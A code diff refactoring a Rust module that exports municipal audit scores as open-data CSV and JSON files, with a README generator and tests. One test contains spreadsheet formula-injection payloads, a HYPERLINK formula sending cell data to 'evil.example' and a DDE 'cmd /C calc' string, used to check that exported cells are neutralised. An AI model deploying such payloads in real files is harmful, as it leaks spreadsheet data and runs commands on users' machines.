@@ -1,107 +1,110 @@
 //! Open-data exports: every published audit and its scores as JSON and CSV, one aggregated CSV
 //! for all communes, and a README describing every column. Drafts never appear, whatever the
-//! build options. Pure: model → files.
+//! build options. Pure: scored model → files; it never scores.
 
 use std::fmt::Write as _;
 
+use serde::Serialize;
 use serde_json::json;
 
+use crate::i18n::t;
 use crate::model::Model;
 use crate::model::{Audit, Commune, Methodology, Score};
 use crate::score::{CommuneScores, Scorecard, Scored};
 
-/// Columns of `audits.csv`, with their French description.
-pub const AUDIT_COLUMNS: [(&str, &str); 12] = [
-    (
-        "commune",
-        "identifiant de la commune dans le dépôt (nom du dossier)",
-    ),
-    ("nom", "nom de la commune"),
-    ("ins", "code INS (REFNIS) de Statbel"),
-    ("province", "province"),
-    (
-        "intercommunale",
-        "identifiant de l'intercommunale de développement économique",
-    ),
-    ("degurba", "degré d'urbanisation (Eurostat)"),
-    (
-        "population",
-        "population (année indiquée dans commune.yaml)",
-    ),
-    ("audit", "identifiant de l'audit (AAAA-MM)"),
-    ("date", "date de l'audit (AAAA-MM-JJ)"),
-    ("methodologie", "version de la méthodologie appliquée"),
-    (
-        "indice_global",
-        "moyenne des scores des étapes, sur 100, une décimale ; vide si aucun score",
-    ),
-    (
-        "couverture",
-        "part des critères renseignés (ni inconnus, ni sans réponse), de 0 à 1, trois décimales",
-    ),
-];
+/// One row of `audits.csv`: one published audit. The field names are the CSV header, and
+/// each is described in `data/README.md` (`export.audits.<column>` in `i18n/fr.toml`) and in
+/// docs/FORMAT.md.
+#[derive(Default, Serialize)]
+pub struct AuditRow<'a> {
+    commune: Text<'a>,
+    nom: Text<'a>,
+    ins: Text<'a>,
+    province: Text<'a>,
+    intercommunale: Text<'a>,
+    degurba: Text<'a>,
+    population: u64,
+    audit: Text<'a>,
+    date: Text<'a>,
+    methodologie: Text<'a>,
+    indice_global: String,
+    couverture: String,
+}
 
-/// Columns of `scores.csv` and of each audit's CSV, with their French description.
-pub const SCORE_COLUMNS: [(&str, &str); 9] = [
-    ("commune", "identifiant de la commune dans le dépôt"),
-    ("ins", "code INS (REFNIS) de Statbel"),
-    ("audit", "identifiant de l'audit (AAAA-MM)"),
-    ("methodologie", "version de la méthodologie appliquée"),
-    (
-        "niveau",
-        "ce que la ligne mesure : etape, angle ou case (étape × angle)",
-    ),
-    ("etape", "identifiant de l'étape (vide pour un angle)"),
-    ("angle", "identifiant de l'angle (vide pour une étape)"),
-    (
-        "score",
-        "moyenne pondérée des critères répondus, sur 100, une décimale ; vide si aucun",
-    ),
-    (
-        "couverture",
-        "part des critères renseignés, de 0 à 1, trois décimales ; vide sans critère",
-    ),
-];
+/// One row of `scores.csv` and of each audit's CSV: a step, an angle or a cell of one audit
+/// (`export.scores.<column>` in `i18n/fr.toml`).
+#[derive(Default, Serialize)]
+pub struct ScoreRow<'a> {
+    commune: Text<'a>,
+    ins: Text<'a>,
+    audit: Text<'a>,
+    methodologie: Text<'a>,
+    niveau: Text<'a>,
+    etape: Text<'a>,
+    angle: Text<'a>,
+    score: String,
+    couverture: String,
+}
+
+/// What one published audit contributes to `data/`: its row of `audits.csv`, its rows of
+/// `scores.csv`, and (when asked) its own JSON and CSV files.
+pub struct AuditExport<'a> {
+    /// The audit's row of `audits.csv`.
+    pub summary: AuditRow<'a>,
+    /// The audit's rows of `scores.csv`, also the rows of its own CSV.
+    pub scores: Vec<ScoreRow<'a>>,
+    /// `data/communes/<slug>/<audit>.json` and `.csv`, when asked for.
+    pub files: Option<[(String, Vec<u8>); 2]>,
+}
+
+/// Exports one published audit, scored as `card`; its own files only when `with_files`.
+pub fn export_audit<'a>(
+    c: &'a Commune,
+    a: &'a Audit,
+    m: &'a Methodology,
+    card: &Scorecard,
+    with_files: bool,
+) -> AuditExport<'a> {
+    let summary = AuditRow {
+        commune: Text(&c.slug),
+        nom: Text(&c.name),
+        ins: Text(&c.ins),
+        province: Text(&c.province),
+        intercommunale: Text(&c.intercommunale),
+        degurba: Text(&c.degurba),
+        population: c.population,
+        audit: Text(&a.id),
+        date: Text(&a.date),
+        methodologie: Text(&a.methodology),
+        indice_global: decimal(card.overall, 1),
+        couverture: decimal(Some(card.coverage), 3),
+    };
+    let scores = score_rows(c, a, m, card);
+    let files = with_files.then(|| audit_files(c, a, m, card, csv(&scores)));
+    AuditExport {
+        summary,
+        scores,
+        files,
+    }
+}
 
 /// Builds the files under `data/` that cover every commune: the audits and scores of every
 /// published audit, and the README. Each audit's own files come with its commune
 /// ([`export_communes`]).
 pub fn export_shared(scored: &Scored<'_>) -> Vec<(String, Vec<u8>)> {
-    let mut audits_csv = header(&AUDIT_COLUMNS);
-    let mut scores_csv = header(&SCORE_COLUMNS);
+    let mut audits = Vec::new();
+    let mut scores = Vec::new();
     for cs in &scored.communes {
-        let c = cs.commune;
         for s in cs.audits.iter().filter(|s| s.published()) {
-            let (a, card) = (s.audit, &s.card);
-            let population = c.population.to_string();
-            let overall = decimal(card.overall, 1);
-            let coverage = decimal(Some(card.coverage), 3);
-            row(
-                &mut audits_csv,
-                &[
-                    Text(&c.slug),
-                    Text(&c.name),
-                    Text(&c.ins),
-                    Text(&c.province),
-                    Text(&c.intercommunale),
-                    Text(&c.degurba),
-                    Number(&population),
-                    Text(&a.id),
-                    Text(&a.date),
-                    Text(&a.methodology),
-                    Number(&overall),
-                    Number(&coverage),
-                ],
-            );
-            for line in score_rows(s.methodology, card) {
-                row(&mut scores_csv, &score_fields(c, a, &line));
-            }
+            let export = export_audit(cs.commune, s.audit, s.methodology, &s.card, false);
+            audits.push(export.summary);
+            scores.extend(export.scores);
         }
     }
     vec![
         ("data/README.md".into(), readme(scored.model).into_bytes()),
-        ("data/audits.csv".into(), audits_csv.into_bytes()),
-        ("data/scores.csv".into(), scores_csv.into_bytes()),
+        ("data/audits.csv".into(), csv(&audits).into_bytes()),
+        ("data/scores.csv".into(), csv(&scores).into_bytes()),
     ]
 }
 
@@ -110,17 +113,8 @@ pub fn export_communes(communes: &[&CommuneScores<'_>]) -> Vec<(String, Vec<u8>)
     let mut files = Vec::new();
     for cs in communes {
         for s in cs.audits.iter().filter(|s| s.published()) {
-            let mut one = header(&SCORE_COLUMNS);
-            for line in score_rows(s.methodology, &s.card) {
-                row(&mut one, &score_fields(cs.commune, s.audit, &line));
-            }
-            files.extend(audit_files(
-                cs.commune,
-                s.audit,
-                s.methodology,
-                &s.card,
-                one,
-            ));
+            let export = export_audit(cs.commune, s.audit, s.methodology, &s.card, true);
+            files.extend(export.files.into_iter().flatten());
         }
     }
     files
@@ -157,97 +151,75 @@ fn audit_files(
     ]
 }
 
-/// One record of a scores CSV: the audit's identity, then a row of [`score_rows`].
-fn score_fields<'a>(c: &'a Commune, a: &'a Audit, line: &'a [String; 5]) -> [Cell<'a>; 9] {
-    [
-        Text(&c.slug),
-        Text(&c.ins),
-        Text(&a.id),
-        Text(&a.methodology),
-        Text(&line[0]),
-        Text(&line[1]),
-        Text(&line[2]),
-        Number(&line[3]),
-        Number(&line[4]),
-    ]
-}
-
-/// The step, angle and cell rows of one scorecard: niveau, etape, angle, score, couverture.
-fn score_rows(m: &crate::model::Methodology, card: &Scorecard) -> Vec<[String; 5]> {
+/// The step, angle and cell rows of one scorecard.
+fn score_rows<'a>(
+    c: &'a Commune,
+    a: &'a Audit,
+    m: &'a Methodology,
+    card: &Scorecard,
+) -> Vec<ScoreRow<'a>> {
+    let row = |niveau, etape, angle, score: Option<f64>, coverage: Option<f64>| ScoreRow {
+        commune: Text(&c.slug),
+        ins: Text(&c.ins),
+        audit: Text(&a.id),
+        methodologie: Text(&a.methodology),
+        niveau: Text(niveau),
+        etape: Text(etape),
+        angle: Text(angle),
+        score: decimal(score, 1),
+        couverture: decimal(coverage, 3),
+    };
     let mut out = Vec::new();
     for (s, p) in m.steps.iter().zip(&card.steps) {
-        out.push([
-            "etape".into(),
-            s.id.clone(),
-            String::new(),
-            decimal(p.score, 1),
-            decimal(p.coverage, 3),
-        ]);
+        out.push(row("etape", &s.id, "", p.score, p.coverage));
     }
-    for (a, p) in m.angles.iter().zip(&card.angles) {
-        out.push([
-            "angle".into(),
-            String::new(),
-            a.id.clone(),
-            decimal(p.score, 1),
-            decimal(p.coverage, 3),
-        ]);
+    for (x, p) in m.angles.iter().zip(&card.angles) {
+        out.push(row("angle", "", &x.id, p.score, p.coverage));
     }
-    for (s, row) in m.steps.iter().zip(&card.cells) {
-        for (a, p) in m.angles.iter().zip(row) {
+    for (s, cells) in m.steps.iter().zip(&card.cells) {
+        for (x, p) in m.angles.iter().zip(cells) {
             if p.criteria > 0 {
-                out.push([
-                    "case".into(),
-                    s.id.clone(),
-                    a.id.clone(),
-                    decimal(p.score, 1),
-                    decimal(p.coverage, 3),
-                ]);
+                out.push(row("case", &s.id, &x.id, p.score, p.coverage));
             }
         }
     }
     out
 }
 
-fn header(columns: &[(&str, &str)]) -> String {
-    let names: Vec<&str> = columns.iter().map(|(n, _)| *n).collect();
-    format!("{}\n", names.join(","))
+/// Writes `rows` as CSV (RFC 4180, `\n` line ends), the header from the fields of `T`.
+fn csv<T: Serialize>(rows: &[T]) -> String {
+    let mut writer = csv::WriterBuilder::new()
+        .terminator(csv::Terminator::Any(b'\n'))
+        .from_writer(Vec::new());
+    for row in rows {
+        // Writing plain strings and numbers into memory cannot fail.
+        let _ = writer.serialize(row);
+    }
+    let bytes = writer.into_inner().unwrap_or_default();
+    String::from_utf8(bytes).unwrap_or_default()
 }
 
-/// A CSV cell: text from the repository, or a number this program wrote.
-#[derive(Clone, Copy)]
-enum Cell<'a> {
-    Text(&'a str),
-    Number(&'a str),
+/// The column names of the row struct `T`, as [`csv`] writes them in the header.
+fn columns<T: Serialize + Default>() -> Vec<String> {
+    let text = csv(&[T::default()]);
+    let header = text.lines().next().unwrap_or_default();
+    header.split(',').map(str::to_string).collect()
 }
-use Cell::{Number, Text};
 
-/// Appends one CSV record: text cells that a spreadsheet would read as a formula (starting
-/// with `=`, `+`, `-`, `@`, a tab or a carriage return) get a leading `'`, as OWASP
-/// recommends; then every cell is quoted per RFC 4180 when needed. Numbers are written as is.
-fn row(out: &mut String, fields: &[Cell]) {
-    for (i, cell) in fields.iter().enumerate() {
-        if i > 0 {
-            out.push(',');
-        }
-        let neutralised;
-        let f = match *cell {
-            Number(n) => n,
-            Text(t) if t.starts_with(['=', '+', '-', '@', '\t', '\r']) => {
-                neutralised = format!("'{t}");
-                &neutralised
-            }
-            Text(t) => t,
-        };
-        if f.contains([',', '"', '\n', '\r']) {
-            out.push('"');
-            out.push_str(&f.replace('"', "\"\""));
-            out.push('"');
+/// Text from the repository in a CSV cell: a cell that a spreadsheet would read as a formula
+/// (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`, as OWASP
+/// recommends. Numbers this program writes are `String`/`u64` fields, never touched.
+#[derive(Clone, Copy, Default)]
+struct Text<'a>(&'a str);
+
+impl Serialize for Text<'_> {
+    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
+        if self.0.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+            serializer.serialize_str(&format!("'{}", self.0))
         } else {
-            out.push_str(f);
+            serializer.serialize_str(self.0)
         }
     }
-    out.push('\n');
 }
 
 fn decimal(v: Option<f64>, places: u8) -> String {
@@ -275,12 +247,12 @@ fn readme(model: &Model) -> String {
     out.push_str("Les fichiers CSV sont encodés en UTF-8, séparés par des virgules, avec le point comme séparateur décimal.\n");
     out.push_str("Une cellule de texte qui commencerait par `=`, `+`, `-`, `@`, une tabulation ou un retour chariot est précédée d'une apostrophe `'`, pour qu'un tableur ne l'exécute pas comme une formule ; les nombres ne sont jamais modifiés.\n\n");
     out.push_str("## Colonnes de audits.csv\n\n");
-    for (name, description) in AUDIT_COLUMNS {
-        let _ = writeln!(out, "- `{name}` : {description}");
+    for name in columns::<AuditRow>() {
+        let _ = writeln!(out, "- `{name}` : {}", t(&format!("export.audits.{name}")));
     }
     out.push_str("\n## Colonnes de scores.csv\n\n");
-    for (name, description) in SCORE_COLUMNS {
-        let _ = writeln!(out, "- `{name}` : {description}");
+    for name in columns::<ScoreRow>() {
+        let _ = writeln!(out, "- `{name}` : {}", t(&format!("export.scores.{name}")));
     }
     out.push_str("\nLes scores suivent la méthodologie de la version indiquée : la moyenne pondérée des critères répondus, sur 100 (niveau × 25) ; « na » est exclu, « inconnu » compte 0.\n");
     out
@@ -290,30 +262,44 @@ fn readme(model: &Model) -> String {
 mod tests {
     use super::*;
 
-    fn record(cells: &[Cell]) -> String {
-        let mut out = String::new();
-        row(&mut out, cells);
-        out
-    }
-
     #[test]
     fn issue_11_formula_cells_are_neutralised_and_quoted() {
+        let record = (
+            Text("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Arlon\")"),
+            Text("+cmd|' /C calc'!A0"),
+            Text("@SUM(1)"),
+            Text("-2+3"),
+            Text("\tx"),
+            Text("\rx"),
+            Text("Namur"),
+        );
         assert_eq!(
-            record(&[
-                Text("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Arlon\")"),
-                Text("+cmd|' /C calc'!A0"),
-                Text("@SUM(1)"),
-                Text("-2+3"),
-                Text("\tx"),
-                Text("\rx"),
-                Text("Namur"),
-            ]),
+            csv(&[record]),
             "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Arlon\"\")\",'+cmd|' /C calc'!A0,'@SUM(1),'-2+3,'\tx,\"'\rx\",Namur\n"
         );
     }
 
     #[test]
     fn numbers_are_written_as_they_are() {
-        assert_eq!(record(&[Number("-1.5"), Number("42")]), "-1.5,42\n");
+        assert_eq!(csv(&[("-1.5".to_string(), 42u64)]), "-1.5,42\n");
+    }
+
+    #[test]
+    fn every_column_is_described_in_the_readme_and_in_format_md() {
+        let format = include_str!("../docs/FORMAT.md");
+        for (file, names) in [
+            ("audits", columns::<AuditRow>()),
+            ("scores", columns::<ScoreRow>()),
+        ] {
+            assert!(names.len() > 5, "{names:?}");
+            for name in names {
+                let key = format!("export.{file}.{name}");
+                assert_ne!(t(&key), key, "{key} missing from i18n/fr.toml");
+                assert!(
+                    format.contains(&format!("| `{name}` |")),
+                    "{name} missing from FORMAT.md"
+                );
+            }
+        }
     }
 }
